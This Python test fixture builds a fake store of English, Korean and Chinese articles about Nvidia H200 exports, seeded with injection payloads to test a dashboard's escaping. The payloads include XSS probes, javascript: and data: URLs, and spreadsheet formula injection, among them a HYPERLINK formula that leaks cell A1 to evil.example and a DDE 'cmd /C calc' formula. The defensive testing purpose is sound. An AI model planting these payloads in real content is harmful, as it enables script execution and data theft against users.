"""A hostile store: articles (en/ko/zh) whose title, body, publisher, url and quotes carry HTML, JavaScript
URLs, Markdown, LaTeX and spreadsheet formulas, with entity mentions, quotes, stances and status claims
so the text reaches every chart, hover, table, the article view, the quote table, the evidence tables and
the report.

The extractions are written by hand (Store.write_file_results takes (Article, Extraction) pairs), so what
reaches the dashboard does not depend on the extractor (which others are changing): every hostile string
lands where the tests look for it. No streamlit import here.
"""
from __future__ import annotations

import hashlib
from pathlib import Path

from chipwatch.models import Article, Extraction, Mention, Quote, Stance, StatusClaim
from chipwatch.store import Store

# -- the payloads ------------------------------------------------------------------------------------
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
MD_LINK = "[click](javascript:alert(3))"
JS_URL = "javascript:alert(4)"
MARKDOWN = "**bold** # heading :red[x] $x$"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = (IMG, SCRIPT, MD_LINK, JS_URL, MARKDOWN, HYPERLINK, CMD)

# -- publishers (the volume chart's legend and hover, filters, quote table, report) ------------------
PUB_CMD = CMD  # starts with '=': a formula when a spreadsheet opens the CSV
PUB_IMG = f"{IMG} 일보"
PUB_SCRIPT = f"+新浪 {SCRIPT}"
PUB_AT = "@evil <b>Wire</b>"
PUB_CR = "\rCR Daily"
PUBLISHERS = (PUB_CMD, PUB_IMG, PUB_SCRIPT, PUB_AT, PUB_CR)

# -- the articles ----------------------------------------------------------------------------------------
EN_ID, KO_ID, ZH_ID, MINUS_ID, TAB_ID = "hostile-en", "hostile-ko", "hostile-zh", "hostile-minus", "hostile-tab"
EN_TITLE = f"{IMG} Nvidia H200 cleared for China {MD_LINK}"
EN_BODY = (
    f"Nvidia may ship H200 chips to China, the US Commerce Department said on Tuesday. {SCRIPT} {IMG}\n"
    f"# heading\n**bold** :red[x] $x$ {MD_LINK} :material/home:\n"
    f'Donald Trump said "{HYPERLINK} {IMG}" at the White House.\n'
    f'People familiar with the matter said "{SCRIPT} {MD_LINK} **bold**".\n'
    f"{HYPERLINK} {IMG} The United States allowed H200 exports to China."
)
KO_TITLE = f"# 엔비디아 H200 중국 수출 {SCRIPT} {IMG}"
KO_BODY = (f"엔비디아는 H200 칩을 중국에 수출할 수 있다고 미국 상무부가 밝혔다. {IMG} {SCRIPT}\n"
           f"**굵게** :red[경고] $x$ {MD_LINK}\n"
           f"도널드 트럼프 대통령은 \"{IMG} 중국에 팔겠다\"고 말했다.\n"
           f"@SUM(1+1) 중국 정부는 H200 구매를 자제하라고 기업들에 지시했다. {IMG}")
ZH_TITLE = f"@英伟达 H200 对华出口 **bold** :red[x] $x$ {IMG}"
ZH_BODY = (f"英伟达H200芯片获准对华出口。{SCRIPT} {IMG} {MD_LINK}\n"
           f"特朗普表示：“{MARKDOWN} {IMG}”。\n"
           f"+1+1 {SCRIPT} 中国海关暂停H200进口。")
MINUS_TITLE = f"-2+3 Nvidia H20 licences {MARKDOWN} {SCRIPT}"
MINUS_BODY = (f"Nvidia said the H20 may go to China. {IMG}\n"
              f"-2+3 {SCRIPT} China discouraged purchases of the H20.")
TAB_TITLE = f"\t=SUM(A1:A9) H200 tab {IMG}"
TAB_BODY = f"The H200 ships to China, Nvidia said. \t=SUM(A1:A9) {IMG} {MD_LINK}"

TITLES = {EN_ID: EN_TITLE, KO_ID: KO_TITLE, ZH_ID: ZH_TITLE, MINUS_ID: MINUS_TITLE, TAB_ID: TAB_TITLE}

# Status-claim evidence (the Export status hovers and evidence table, the Overview's status changes).
EN_EVIDENCE = f"{HYPERLINK} {IMG} The United States allowed H200 exports to China."
KO_EVIDENCE = f"@SUM(1+1) 중국 정부는 H200 구매를 자제하라고 기업들에 지시했다. {IMG}"
ZH_EVIDENCE = f"+1+1 {SCRIPT} 中国海关暂停H200进口。"
MINUS_EVIDENCE = f"-2+3 {SCRIPT} China discouraged purchases of the H20."
TAB_EVIDENCE = f"\t=SUM(A1:A9) {IMG} {MD_LINK}"

# Quotes (the quote tables) and the anonymous stakeholder named after a hostile publisher.
EN_QUOTE_TRUMP = f"{HYPERLINK} {IMG}"
EN_QUOTE_ANON = f"{SCRIPT} {MD_LINK} **bold**"
ANON_HOLDER = "anonymous:" + PUB_IMG  # the extractor names anonymous sources after the publisher
ANON_NAME = f"anonymous ({PUB_IMG})"  # stances_view.display_name
ANON_CMD_HOLDER = "anonymous:" + PUB_CMD
ANON_CMD_NAME = f"anonymous ({PUB_CMD})"


def _hash(title: str, body: str) -> str:
    return hashlib.sha256((title + "\n" + body).encode("utf-8")).hexdigest()


def _mentions(title: str, body: str, entities: list[tuple[str, str, str]]) -> list[Mention]:
    """Mentions at the real offsets of each surface (type, id, surface) in the title and the body."""
    out = []
    for etype, eid, surface in entities:
        for field, text in (("title", title), ("body", body)):
            start = text.find(surface)
            if start >= 0:
                out.append(Mention(etype, eid, surface, field, start, start + len(surface), 0))
    return out


def _span(body: str, text: str) -> tuple[int, int]:
    start = body.find(text)
    return (start, start + len(text)) if start >= 0 else (0, 0)


def _quote(body, speaker, speaker_text, kind, text, stance, confidence=0.8) -> Quote:
    start, end = _span(body, text)
    return Quote(speaker=speaker, speaker_text=speaker_text, kind=kind, text=text, cue="said", start=start,
                 end=end, stance=stance, confidence=confidence, rule="hostile-fixture")


def _claim(body, chip, side, actor, dest, status, date, evidence) -> StatusClaim:
    start, end = _span(body, evidence)
    return StatusClaim(chip=chip, side=side, actor=actor, destination=dest, status=status, date=date,
                       evidence=evidence, start=start, end=end)


def hostile_items() -> list[tuple[Article, Extraction]]:
    en = Article(id=EN_ID, source="hostile.json#1", title=EN_TITLE, body=EN_BODY, url=JS_URL,
                 published="2026-02-10", publisher=PUB_CMD, language="en", content_hash=_hash(EN_TITLE, EN_BODY))
    en_ex = Extraction(
        mentions=_mentions(EN_TITLE, EN_BODY, [
            ("chip", "H200", "H200"), ("company", "Nvidia", "Nvidia"), ("country", "CHN", "China"),
            ("country", "USA", "United States"), ("person", "Donald Trump", "Donald Trump")]),
        quotes=[_quote(EN_BODY, "Donald Trump", "Donald Trump", "direct", EN_QUOTE_TRUMP, "favor"),
                _quote(EN_BODY, ANON_HOLDER, "People familiar with the matter", "direct", EN_QUOTE_ANON, "against")],
        stances=[Stance("Donald Trump", "favor", None, EN_QUOTE_TRUMP, 0.8, "hostile-fixture", 0),
                 Stance(ANON_HOLDER, "against", None, EN_QUOTE_ANON, 0.7, "hostile-fixture", 1),
                 Stance("Xi Jinping", "against", ANON_CMD_HOLDER, f"{IMG} {CMD} reported", 0.6, "hostile-fixture")],
        status_claims=[_claim(EN_BODY, "H200", "export", "USA", "CHN", "allowed", "2026-02-10", EN_EVIDENCE)],
    )
    ko = Article(id=KO_ID, source="hostile.json#2", title=KO_TITLE, body=KO_BODY, url="JavaScript:alert(5)",
                 published="2026-02-11", publisher=PUB_IMG, language="ko", content_hash=_hash(KO_TITLE, KO_BODY))
    ko_quote = f"{IMG} 중국에 팔겠다"
    ko_ex = Extraction(
        mentions=_mentions(KO_TITLE, KO_BODY, [
            ("chip", "H200", "H200"), ("company", "Nvidia", "엔비디아"), ("country", "CHN", "중국"),
            ("person", "Donald Trump", "도널드 트럼프")]),
        quotes=[_quote(KO_BODY, "Donald Trump", "도널드 트럼프 대통령은", "direct", ko_quote, "favor")],
        stances=[Stance("Donald Trump", "favor", None, ko_quote, 0.8, "hostile-fixture", 0),
                 Stance(ANON_HOLDER, "against", None, KO_EVIDENCE, 0.5, "hostile-fixture")],
        status_claims=[_claim(KO_BODY, "H200", "import", "CHN", "CHN", "discouraged", "2026-02-11", KO_EVIDENCE)],
    )
    zh = Article(id=ZH_ID, source="hostile.json#3", title=ZH_TITLE, body=ZH_BODY, url=" javascript:alert(6)",
                 published="2026-02-12", publisher=PUB_SCRIPT, language="zh", content_hash=_hash(ZH_TITLE, ZH_BODY))
    zh_quote = f"{MARKDOWN} {IMG}"
    zh_ex = Extraction(
        mentions=_mentions(ZH_TITLE, ZH_BODY, [
            ("chip", "H200", "H200"), ("company", "Nvidia", "英伟达"), ("country", "CHN", "中国"),
            ("person", "Donald Trump", "特朗普")]),
        quotes=[_quote(ZH_BODY, "Donald Trump", "特朗普", "direct", zh_quote, "favor")],
        stances=[Stance("Donald Trump", "favor", None, zh_quote, 0.8, "hostile-fixture", 0)],
        status_claims=[_claim(ZH_BODY, "H200", "import", "CHN", "CHN", "banned", "2026-02-12", ZH_EVIDENCE)],
    )
    minus = Article(id=MINUS_ID, source="hostile.json#4", title=MINUS_TITLE, body=MINUS_BODY,
                    url="data:text/html,<script>alert(7)</script>", published="2026-02-13", publisher=PUB_AT,
                    language="en", content_hash=_hash(MINUS_TITLE, MINUS_BODY))
    minus_ex = Extraction(
        mentions=_mentions(MINUS_TITLE, MINUS_BODY, [
            ("chip", "H20", "H20"), ("company", "Nvidia", "Nvidia"), ("country", "CHN", "China")]),
        status_claims=[_claim(MINUS_BODY, "H20", "import", "CHN", "CHN", "discouraged", "2026-02-13",
                              MINUS_EVIDENCE)],
    )
    tab = Article(id=TAB_ID, source="hostile.json#5", title=TAB_TITLE, body=TAB_BODY,
                  url="https://example.com/h200?q=<img src=x onerror=alert(8)>", published="2026-02-14",
                  publisher=PUB_CR, language="en", content_hash=_hash(TAB_TITLE, TAB_BODY))
    tab_ex = Extraction(
        mentions=_mentions(TAB_TITLE, TAB_BODY, [
            ("chip", "H200", "H200"), ("company", "Nvidia", "Nvidia"), ("country", "CHN", "China")]),
        status_claims=[_claim(TAB_BODY, "H200", "export", "USA", "ARE", "allowed", "2026-02-14",
                              TAB_EVIDENCE)],
    )
    return [(en, en_ex), (ko, ko_ex), (zh, zh_ex), (minus, minus_ex), (tab, tab_ex)]


def build_hostile_store(db_path: Path) -> Path:
    """A new store at db_path holding only the hostile articles (and their hand-written extractions)."""
    with Store(db_path) as store:
        result = store.write_file_results("hostile.json", hostile_items())
    assert result.added == 5, result
    return db_path
